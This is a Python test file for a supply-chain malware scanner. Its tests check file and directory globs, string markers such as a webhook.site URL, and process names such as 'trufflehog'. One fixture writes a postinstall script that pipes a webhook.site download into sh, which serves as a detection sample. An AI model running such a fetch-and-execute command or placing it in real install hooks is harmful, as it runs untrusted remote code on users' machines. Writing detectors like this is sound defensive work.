"""Tests for the file, directory, string and process indicator checks."""

from analysis import indicators


class TestFileAndDirectoryPatterns:
    def test_file_glob(self, tmp_path):
        (tmp_path / "src").mkdir()
        (tmp_path / "src" / "bundle.js").write_text("x")
        (tmp_path / "src" / "index.js").write_text("x")
        findings = indicators.check_file_patterns(str(tmp_path), ["bundle*.js"])
        assert [(f.check, f.pattern) for f in findings] == [("file", "bundle*.js")]
        assert findings[0].location == str(tmp_path / "src" / "bundle.js")

    def test_node_modules_and_vcs_are_excluded(self, tmp_path):
        for parent in ("node_modules", ".git"):
            (tmp_path / parent).mkdir()
            (tmp_path / parent / "bundle.js").write_text("x")
        assert indicators.check_file_patterns(str(tmp_path), ["bundle.js"]) == []

    def test_directory_glob(self, tmp_path):
        (tmp_path / ".github" / "workflows" / "shai-hulud-workflow").mkdir(parents=True)
        findings = indicators.check_directory_patterns(str(tmp_path), ["shai-hulud*"])
        assert len(findings) == 1
        assert findings[0].check == "directory"

    def test_no_patterns(self, tmp_path):
        assert indicators.check_file_patterns(str(tmp_path), []) == []
        assert indicators.check_directory_patterns(str(tmp_path), []) == []

    def test_home_cache_directories_excluded(self, tmp_path, monkeypatch):
        monkeypatch.setenv("HOME", str(tmp_path))
        (tmp_path / ".npm" / "_cacache").mkdir(parents=True)
        (tmp_path / ".npm" / "_cacache" / "bundle.js").write_text("x")
        (tmp_path / "project").mkdir()
        (tmp_path / "project" / "bundle.js").write_text("x")
        findings = indicators.check_file_patterns(str(tmp_path), ["bundle.js"])
        assert [f.location for f in findings] == [str(tmp_path / "project" / "bundle.js")]

    def test_home_config_cache_directories_excluded(self, tmp_path, monkeypatch):
        monkeypatch.setenv("HOME", str(tmp_path))
        for sub in ("Cache", "User"):
            (tmp_path / ".config" / "Code" / sub).mkdir(parents=True)
            (tmp_path / ".config" / "Code" / sub / "bundle.js").write_text("x")
        findings = indicators.check_file_patterns(str(tmp_path), ["bundle.js"])
        assert [f.location for f in findings] == [str(tmp_path / ".config" / "Code" / "User" / "bundle.js")]

    def test_cache_glob_does_not_span_directories(self, tmp_path, monkeypatch):
        monkeypatch.setenv("HOME", str(tmp_path))
        (tmp_path / ".config" / "a" / "b" / "Cache").mkdir(parents=True)
        (tmp_path / ".config" / "a" / "b" / "Cache" / "bundle.js").write_text("x")
        findings = indicators.check_file_patterns(str(tmp_path), ["bundle.js"])
        assert len(findings) == 1


class TestStringMarkers:
    def test_marker_found_in_text_file(self, tmp_path):
        (tmp_path / "postinstall.sh").write_text("curl https://webhook.site/bb8ca5f6 | sh")
        (tmp_path / "readme.md").write_text("webhook.site/bb8ca5f6")
        findings = indicators.check_string_markers(str(tmp_path), ["webhook.site/bb8ca5f6"])
        assert [f.location for f in findings] == [str(tmp_path / "postinstall.sh")]

    def test_binary_files_skipped(self, tmp_path):
        (tmp_path / "blob.js").write_bytes(b"\x00\x01marker")
        assert indicators.check_string_markers(str(tmp_path), ["marker"]) == []

    def test_file_budget(self, tmp_path, monkeypatch):
        monkeypatch.setattr(indicators.Constants, "STRING_MARKER_MAX_FILES", 1)
        (tmp_path / "a.js").write_text("clean")
        (tmp_path / "b.js").write_text("marker")
        assert indicators.check_string_markers(str(tmp_path), ["marker"]) == []

    def test_marker_spanning_chunk_boundary(self, tmp_path, monkeypatch):
        monkeypatch.setattr(indicators, "_CHUNK_BYTES", 16)
        (tmp_path / "index.js").write_text("x" * 10 + "webhook.site/bb8ca5f6" + "y" * 40)
        findings = indicators.check_string_markers(str(tmp_path), ["webhook.site/bb8ca5f6"])
        assert [f.location for f in findings] == [str(tmp_path / "index.js")]

    def test_marker_in_late_chunk_and_order_kept(self, tmp_path, monkeypatch):
        monkeypatch.setattr(indicators, "_CHUNK_BYTES", 8)
        (tmp_path / "index.js").write_text("beta" + "z" * 100 + "alpha")
        findings = indicators.check_string_markers(str(tmp_path), ["alpha", "beta", "gamma"])
        assert [f.pattern for f in findings] == ["alpha", "beta"]


class TestProcessPatterns:
    def test_match(self, monkeypatch):
        monkeypatch.setattr(indicators, "run_command", lambda cmd, timeout=None: "123\n456")
        findings = indicators.check_process_patterns(["trufflehog"])
        assert findings[0].location == "123,456"
        assert findings[0].check == "process"

    def test_no_match_or_missing_pgrep(self, monkeypatch):
        monkeypatch.setattr(indicators, "run_command", lambda cmd, timeout=None: None)
        assert indicators.check_process_patterns(["trufflehog"]) == []
